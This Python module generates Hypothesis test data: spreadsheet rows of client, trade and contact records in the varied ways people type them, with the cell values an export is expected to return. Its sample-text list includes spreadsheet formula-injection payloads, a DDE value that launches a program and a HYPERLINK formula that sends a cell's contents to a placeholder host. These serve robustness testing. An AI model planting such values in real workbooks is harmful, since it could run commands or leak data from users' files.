"""Rows as people type them: what each cell is to say, and one of the ways in which somebody may type it.

Meanings come first and are made to agree with each other; only then is each put into a cell. Nothing here
asks the intake how it reads: `handed_back` states by itself what a cell looks like when it comes back.
"""

from __future__ import annotations

import datetime as dt
import re
import string
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal
from zoneinfo import ZoneInfo

from hypothesis import strategies as st

from clientlib import codes
from clientlib.declare import EARLIEST_DATE, LATEST_DATE, Field
from clientlib.idcard import check_character
from clientlib.tables import AreaInfo

Meant = str | bool | float | dt.date | tuple[str, ...]
"""What a cell says: text, a code, yes or no, a figure, a day or moment (in UTC), or several codes."""
Cell = str | bool | int | float | dt.date
"""What stands in it: for openpyxl, a `datetime` is a date with a time of day."""
Meanings = dict[str, Meant]


@dataclass(frozen=True)
class Typed:
    """One cell: what is `meant`, and the `cell` that somebody typed to say so."""

    meant: Meant
    cell: Cell


Row = dict[str, Typed]
"""By the names of the fields; what is not there was left empty."""


def rows(
    area: AreaInfo, zone: ZoneInfo, fewest: int, most: int, *, usual: bool = False
) -> st.SearchStrategy[list[Row]]:
    """Good rows of an area that a book shows all at once: no key, and where only the newest row of a client
    counts no client, twice. `usual`: of characters that are rare, only a few."""
    alone = ("client_id",) if area.versioned else area.key

    def own(made: Row) -> tuple[Meant, ...]:
        return tuple(made[name].meant for name in alone)

    return st.lists(row(area, zone, usual), min_size=fewest, max_size=most, unique_by=own)


@st.composite
def row(draw: st.DrawFn, area: AreaInfo, zone: ZoneInfo, usual: bool) -> Row:
    """One row that holds together; with a remark, a cell that is required may be empty."""
    meant = {f.name: draw(meanings(f)) for f in area.fields if f.required or draw(st.booleans())}
    if usual:
        meant = {name: _usual(said) if isinstance(said, str) else said for name, said in meant.items()}
    agree = _AGREEMENTS.get(area.name)
    if agree is not None:
        agree(draw, meant)
    owed = [f.name for f in area.fields if f.required and not f.key and f.name in meant]
    if owed and "remarks" in meant and draw(st.integers(0, 3)) == 3:
        del meant[draw(st.sampled_from(owed))]
    yuan = meant.get("currency", "CNY") == "CNY"
    return {name: Typed(said, draw(ways(area.field(name), said, zone, yuan))) for name, said in meant.items()}


# ------------------------------------------------------------------------------ what is meant
_EMPTY_WORDS = {"-", "--", "—", "——", "/", "n/a", "null", "无", "暂无"}
"""What people write into a cell to leave it empty."""
_NOTEWORTHY = "王𠮷㐂·•'\"“”,;；、|=+-@＝０Ａ😀👩‍💻é\u0301ß\u3000 \n\t\\/<>&%#_"
_WHOLE_TEXTS = (
    "𠮷野家",
    "买买提·吐尔逊",
    "阿卜杜热依木·" + "麦麦提" * 31 + "x",
    "Ñuñez-O'Brien",
    "=1+1",
    "+1 等待",
    "-2+3+cmd|' /C calc'!A0",
    "@张经理",
    '=HYPERLINK("http://example.com?x="&A1)',
    "{=1+1}",
    "000123",
    "1e5",
    "1.50",
    "-0",
    "2026-03-21",
    "TRUE",
    "Null",
    "_x0041_ _x000D_",
    "👨‍👩‍👧‍👦",
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "第一行\n第二行",
    '他说"好"，然后；没有了',
    "'开头的撇号",
    "http://example.com/#a",
    "３Ｍ公司",
)
_characters = st.one_of(
    st.sampled_from(_NOTEWORTHY),
    st.characters(exclude_categories=("Cc", "Cs", "Cn")),
    st.sampled_from("张伟AZ09"),
)


def meanings(field: Field) -> st.SearchStrategy[Meant]:
    """What a cell of this field may say, whatever the others do."""
    return _MEANINGS[field.kind](field)


def _text(field: Field) -> st.SearchStrategy[str]:
    if field.pattern is not None:
        return _fitting(field.pattern, field.maximum)
    long = st.builds(lambda unit: unit * field.maximum, st.text(_characters, min_size=1, max_size=3))
    drawn = st.one_of(st.text(_characters, min_size=1, max_size=12), st.sampled_from(_WHOLE_TEXTS), long)
    return drawn.map(lambda text: _cut(text, field.maximum)).filter(_says_something)


def _cut(text: str, longest: int) -> str:
    """At most so many characters, and none at its ends that nobody sees."""
    text = text if text in _WHOLE_TEXTS else _trimmed(text)
    return text if len(text) <= longest else _trimmed(text[:longest])


def _usual(text: str) -> str:
    """The text with a common character for each rare one but the noteworthy."""
    return "".join(c if c in _NOTEWORTHY or c.encode("gb2312", "ignore") else "文" for c in text)


def _trimmed(text: str) -> str:
    while text and unicodedata.category(text[0])[0] in "ZC":
        text = text[1:]
    while text and unicodedata.category(text[-1])[0] in "ZC":
        text = text[:-1]
    return text


def _says_something(text: str) -> bool:
    return bool(text) and (text == "Null" or text.casefold() not in _EMPTY_WORDS)


def _fitting(pattern: str, longest: int) -> st.SearchStrategy[str]:
    drawn = st.from_regex(re.compile(pattern, re.ASCII), fullmatch=True)
    return drawn.filter(lambda text: len(text) <= longest and text == text.strip() and _says_something(text))


def _email(field: Field) -> st.SearchStrategy[str]:
    local = st.text(string.ascii_letters + string.digits + "=+-.'王", min_size=1, max_size=12)
    domain = st.sampled_from(("example.com", "mail.example.org", "例子.中国"))
    return st.builds("{}@{}".format, local, domain).filter(lambda address: len(address) <= field.maximum)


def _phone(_field: Field) -> st.SearchStrategy[str]:
    mobile = st.from_regex(r"\+861[3-9][0-9]{9}", fullmatch=True)
    return mobile | st.from_regex(r"\+(44|1|852|7|999)[0-9]{7,11}", fullmatch=True)


def _document(_field: Field) -> st.SearchStrategy[str]:
    return st.from_regex(r"[A-Z]{1,2}[0-9]{7,9}(\([0-9A]\))?|91[0-9A-HJ-NP-RTUWXY]{16}", fullmatch=True)


def _code(field: Field) -> st.SearchStrategy[str]:
    return st.sampled_from(field.choices.values)


def _several_codes(field: Field) -> st.SearchStrategy[tuple[str, ...]]:
    chosen = st.sets(st.sampled_from(field.choices.values), min_size=1, max_size=4)
    return chosen.map(lambda values: tuple(sorted(values)))


def _figure(field: Field) -> st.SearchStrategy[float]:
    """Mostly what Excel can hold, now and then a figure with more digits than that."""
    low = 0 if field.minimum is None and field.above is not None else field.minimum
    low = -(10**12) if low is None else low
    high = 10**12 if field.maximum is None else field.maximum
    written = st.integers(0, 4).flatmap(
        lambda places: st.integers(int(low * 10**places), int(high * 10**places)).map(
            lambda digits: float(Decimal(digits).scaleb(-places))
        )
    )
    usual = st.integers(int(low), int(min(high, 5000))).map(float)
    drawn = st.one_of(usual, written, st.floats(low, high, allow_subnormal=False).map(lambda x: x + 0.0))
    return drawn.filter(lambda value: field.above is None or value > field.above)


def _whole(field: Field) -> st.SearchStrategy[float]:
    return st.integers(max(field.minimum, -(10**15) + 1), min(field.maximum, 10**15 - 1))


def _day(_field: Field) -> st.SearchStrategy[dt.date]:
    return st.dates(dt.date(1990, 1, 1), dt.date(2040, 12, 31)) | st.dates(EARLIEST_DATE, LATEST_DATE)


def _moment(_field: Field) -> st.SearchStrategy[dt.datetime]:
    """UTC; mostly whole seconds, and now and then in an hour that a clock in Shanghai showed twice."""
    early, late = dt.datetime(1900, 1, 3), dt.datetime(2199, 12, 29)
    drawn = st.datetimes(dt.datetime(1990, 1, 1), dt.datetime(2040, 1, 1)) | st.datetimes(early, late)
    whole = drawn.map(lambda moment: moment.replace(microsecond=0))
    twice = st.just(dt.datetime(1991, 9, 14, 15, 30))
    return st.one_of(whole, drawn, twice).map(lambda moment: moment.replace(tzinfo=dt.UTC))


_MEANINGS: dict[str, Callable[[Field], st.SearchStrategy[Meant]]] = {
    "text": _text,
    "code": _code,
    "codes": _several_codes,
    "yes_no": lambda _field: st.booleans(),
    "integer": _whole,
    "number": _figure,
    "money": _figure,
    "fraction": _figure,
    "date": _day,
    "instant": _moment,
    "id_number": _document,
    "phone": _phone,
    "email": _email,
}


# ------------------------------------------------------------- what holds between the cells of a row
def _clients(draw: st.DrawFn, said: Meanings) -> None:
    opened = draw(st.dates(dt.date(1992, 1, 1), dt.date(2040, 12, 31)))
    born = draw(st.dates(dt.date(1932, 1, 1), dt.date(1972, 12, 31)))
    said["opened_on"] = opened
    if said["client_type"] != "individual":
        said.pop("birth_date", None)
    elif "birth_date" in said or "remarks" not in said:
        said["birth_date"] = born
    if said["id_type"] == "id_card":
        sequence = draw(st.integers(0, 999))
        body = f"780101{born:%Y%m%d}{sequence:03}"
        said["id_number"] = body + check_character(body)
        if said.get("gender") in ("1", "2"):
            said["gender"] = "1" if sequence % 2 else "2"


def _contacts(draw: st.DrawFn, said: Meanings) -> None:
    updated = said["updated_at"]
    assert isinstance(updated, dt.datetime)
    consented = updated.date() - dt.timedelta(draw(st.integers(0, 300)))
    said.pop("consent_on", None)
    if consented < EARLIEST_DATE:
        said["marketing_consent"] = False
    elif said["marketing_consent"]:
        said["consent_on"] = consented


def _finances(_draw: st.DrawFn, said: Meanings) -> None:
    total, owed, financial = (said.get(n) for n in ("total_assets", "liabilities", "financial_assets"))
    if isinstance(total, float) and isinstance(owed, float) and "net_assets" in said:
        said["net_assets"] = total - owed
    if isinstance(total, float) and isinstance(financial, float):
        said["financial_assets"] = min(total, financial)


def _preferences(_draw: st.DrawFn, said: Meanings) -> None:
    _in_order(said, "assessed_on", "expires_on")
    if said.get("lowest_class"):
        said["risk_level"] = "C1"


def _relations(draw: st.DrawFn, said: Meanings) -> None:
    if "related_name" not in said and "remarks" not in said:
        said["related_client_id"] = draw(st.from_regex(r"K[0-9]{6}", fullmatch=True))
    if said.get("related_client_id") == said["client_id"]:
        said["client_id"] = f"{str(said['client_id'])[:38]}.1"
    _in_order(said, "since", "until")


def _trades(draw: st.DrawFn, said: Meanings) -> None:
    quantity, price = float(draw(st.integers(1, 10**6))), draw(st.integers(1, 10**7)) / 10_000
    said |= {"quantity": quantity, "price": price, "amount": float(f"{quantity * price:.15g}")}


def _service_requests(draw: st.DrawFn, said: Meanings) -> None:
    if said["status"] == "closed":
        said.setdefault("closed_at", draw(_moment_later))
    else:
        said.pop("closed_at", None)
    _in_order(said, "opened_at", "first_response_at", "closed_at")


def _in_order(said: Meanings, *names: str) -> None:
    there = [name for name in names if name in said]
    said.update(zip(there, sorted(said[name] for name in there), strict=True))


_moment_later = st.datetimes(dt.datetime(2000, 1, 1), dt.datetime(2040, 1, 1)).map(
    lambda moment: moment.replace(microsecond=0, tzinfo=dt.UTC)
)
_AGREEMENTS: dict[str, Callable[[st.DrawFn, Meanings], None]] = {
    "clients": _clients,
    "contacts": _contacts,
    "finances": _finances,
    "preferences": _preferences,
    "relations": _relations,
    "trades": _trades,
    "service_requests": _service_requests,
    "campaigns": lambda _draw, said: _in_order(said, "starts_on", "ends_on"),
    "campaign_contacts": lambda _draw, said: _in_order(said, "contacted_at", "outcome_at"),
}


# ------------------------------------------------------------------------ the ways to type it
_FIRST_SAFE_DAY = dt.date(1900, 3, 1)
"""Before it Excel counts a day that never was."""
_FULL_WIDTH = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}


def ways(field: Field, meant: Meant, zone: ZoneInfo, yuan: bool) -> st.SearchStrategy[Cell]:
    """The cells by which people say it; `yuan`: amounts of this row may say that they are in yuan."""
    match field.kind:
        case "text" | "email":
            found = _text_ways(str(meant), free=field.pattern is None)
        case "id_number":
            found = _document_ways(str(meant))
        case "phone":
            found = _phone_ways(str(meant))
        case "code" | "yes_no":
            found = _code_ways(field, meant)
        case "codes":
            return _list_ways(field, meant)
        case "date":
            found = _date_ways(meant)
        case "instant":
            found = _moment_ways(meant, zone)
        case _:
            found = _figure_ways(field, meant, yuan)
    return st.sampled_from(found)


def _text_ways(text: str, *, free: bool) -> list[Cell]:
    found: list[Cell] = [text, text, f"  {text}", f"{text}\u3000", f"\t{text}", f"{text}\n", f"\u200b{text}"]
    if not free:
        found.append(text.translate(_FULL_WIDTH))
    if re.fullmatch(r"[1-9][0-9]{0,14}", text):
        found.append(int(text))
    return found


def _document_ways(number: str) -> list[Cell]:
    grouped = " ".join(filter(None, (number[:6], number[6:14], number[14:])))
    return [number, number.lower(), grouped, number.translate(_FULL_WIDTH), f" {number}\u3000"]


def _phone_ways(number: str) -> list[Cell]:
    found: list[Cell] = [
        number,
        number.replace("+", "00"),
        f"{number[:3]} {number[3:]}",
        f"{number[:4]}-{number[4:]}",
    ]
    if number.startswith("+861") and len(number) == 14:
        local = number[3:]
        found += [local, int(local), f"{local[:3]} {local[3:7]} {local[7:]}", f"86-{local}", f"+86 {local}"]
        found.append(local.translate(_FULL_WIDTH))
    return found


def _code_ways(field: Field, meant: Meant) -> list[Cell]:
    value = ("yes" if meant else "no") if isinstance(meant, bool) else str(meant)
    words = _words(field.choices, value)
    found: list[Cell] = [*words, *(word.upper() for word in words), *(f" {word} " for word in words)]
    if value.isascii() and re.fullmatch(r"[1-9][0-9]*", value):
        found.append(int(value))
    return [*found, meant] if isinstance(meant, bool) else found


def _words(listed: codes.CodeList, value: str) -> list[str]:
    """The code, and its labels and synonyms as far as they are no other entry's."""
    entry = next(e for e in listed.entries if e.value == value)
    others = {
        codes.fold(word) for e in listed.entries if e != entry for word in (e.value, e.en, e.zh, *e.synonyms)
    }
    return [
        value,
        *(word for word in (entry.en, entry.zh, *entry.synonyms) if codes.fold(word) not in others),
    ]


def _list_ways(field: Field, meant: Meant) -> st.SearchStrategy[Cell]:
    assert isinstance(meant, tuple)
    word_of = [
        st.sampled_from([w for w in _words(field.choices, value) if not re.search("[;；、,，|]", w)])
        for value in meant
    ]
    words = st.tuples(*word_of).flatmap(st.permutations)
    return st.builds(
        lambda mark, found: mark.join(found), st.sampled_from(["; ", "；", "、", ",", "，", "|", ";"]), words
    )


def _figure_ways(field: Field, meant: Meant, yuan: bool) -> list[Cell]:
    assert isinstance(meant, int | float)
    if float(f"{meant:.15g}") != meant:
        return [repr(meant)]
    plain = format(Decimal(f"{meant:.15g}"), "f")
    grouped = f"{Decimal(plain):,}"
    found: list[Cell] = [meant, plain, grouped, plain.translate(_FULL_WIDTH)]
    found += [int(meant)] if meant == int(meant) else []
    if field.kind == "fraction":
        percent = format(Decimal(plain) * 100, "f")
        found = [meant, plain, f"{percent}%", f"{percent} %", f"{percent}%".translate(_FULL_WIDTH)]
    if field.kind == "money" and yuan:
        found += [f"¥{grouped}", f"{grouped}元", f"人民币 {plain}", f"{plain} CNY"]
    if field.kind in ("money", "number") and field.unit in (None, "currency"):
        found.append(f"{format(Decimal(plain) / 10_000, 'f')}万")
    return found


def _date_ways(meant: Meant) -> list[Cell]:
    assert isinstance(meant, dt.date)
    found: list[Cell] = [form.format(d=meant) for form in ("{d:%Y-%m-%d}", "{d:%Y%m%d}", "{d:%Y/%m/%d}")]
    found += [f"{meant.year}年{meant.month}月{meant.day}日", f"{meant.year}.{meant.month}.{meant.day}"]
    if meant.day > 12:
        found.append(f"{meant.day}.{meant.month}.{meant.year}")
    if meant >= _FIRST_SAFE_DAY:
        found += [meant, dt.datetime.combine(meant, dt.time()), meant]
    return found


def _moment_ways(meant: Meant, zone: ZoneInfo) -> list[Cell]:
    assert isinstance(meant, dt.datetime)
    found: list[Cell] = [
        f"{meant:%Y-%m-%dT%H:%M:%S.%f}Z",
        f"{meant.astimezone(_EAST):%Y-%m-%d %H:%M:%S.%f%z}",
    ]
    clock = _clock(meant, zone)
    if clock is None:
        return found
    found.append(str(clock))
    if not clock.microsecond:
        found += [
            f"{clock:%Y/%m/%d %H:%M:%S}",
            f"{clock:%Y-%m-%dT%H:%M:%S}",
            f"{clock:%Y年%m月%d日 %H时%M分%S秒}",
        ]
        found += [clock, clock] if clock.date() >= _FIRST_SAFE_DAY else []
        found += [f"{clock:%Y-%m-%d %H:%M}", f"{clock:%Y.%m.%d %H:%M}"] if not clock.second else []
    return found


_EAST = dt.timezone(dt.timedelta(hours=8))


def _clock(moment: dt.datetime, zone: ZoneInfo) -> dt.datetime | None:
    """What a clock in the zone shows; None where it shows that twice, so that it tells no moment."""
    clock = moment.astimezone(zone).replace(tzinfo=None)
    either = {clock.replace(tzinfo=zone, fold=fold).astimezone(dt.UTC) for fold in (0, 1)}
    return clock.replace(fold=0) if len(either) == 1 else None


# ------------------------------------------------------------------------- what comes back of it
def handed_back(field: Field, meant: Meant, language: str, zone: ZoneInfo) -> Cell:
    """The cell of an exported workbook, as openpyxl reads it: the one form of what was meant.

    Text as it is, without spaces at its ends; codes by their labels in the workbook's language, several in
    the order of their codes; phones with + and country code, ID numbers in capitals; days and moments as
    Excel's own, by the firm's clock; figures as numbers. What Excel cannot hold exactly is text.
    """
    match meant:
        case bool():
            return field.choices.label("yes" if meant else "no", language)
        case tuple():
            return ";".join(_shown(field.choices, value, language) for value in meant)
        case dt.datetime():
            return _moment_back(meant, zone)
        case dt.date():
            return dt.datetime.combine(meant, dt.time()) if meant >= _FIRST_SAFE_DAY else meant.isoformat()
        case int() | float():
            return meant if float(f"{meant:.15g}") == meant else repr(meant)
    return field.choices.label(meant, language) if field.code_list is not None else meant


def _shown(listed: codes.CodeList, value: str, language: str) -> str:
    """A label that would be taken for two cannot stand in a list."""
    label = listed.label(value, language)
    return value if re.search("[;；、,，|]", label) else label


def _moment_back(meant: dt.datetime, zone: ZoneInfo) -> Cell:
    clock = _clock(meant, zone)
    if clock is None:
        return str(meant.astimezone(zone))
    return clock if not clock.microsecond and clock.date() >= _FIRST_SAFE_DAY else str(clock)
